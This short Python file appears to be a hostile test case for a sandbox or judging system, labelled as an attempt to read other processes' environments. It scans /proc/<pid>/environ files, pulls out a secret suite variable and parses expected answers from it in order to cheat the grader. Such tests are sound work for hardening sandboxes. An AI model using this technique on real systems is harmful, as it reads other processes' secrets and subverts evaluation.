# attack: read other processes' environment in /proc
# expect: RV|WA

import json
import os


def answers(text):
    found = {}
    for line in text.splitlines():
        try:
            case = json.loads(line)
            found[case["args"][0]] = case["expected"]
        except (ValueError, LookupError, TypeError):
            continue
    return found


def text():
    found = b""
    for path in [f"/proc/{pid}/environ" for pid in range(1, min(os.getpid(), 2000) + 50)] + [f"/proc/{os.getppid()}/environ"]:
        try:
            with open(path, "rb") as file:
                found += file.read().replace(b"HOSTILE_SUITE_SECRET=", b"\n")
        except OSError:
            continue
    return found.replace(b"\0", b"\n").decode("utf-8", "replace")


def guess(n):
    return answers(text()).get(n)
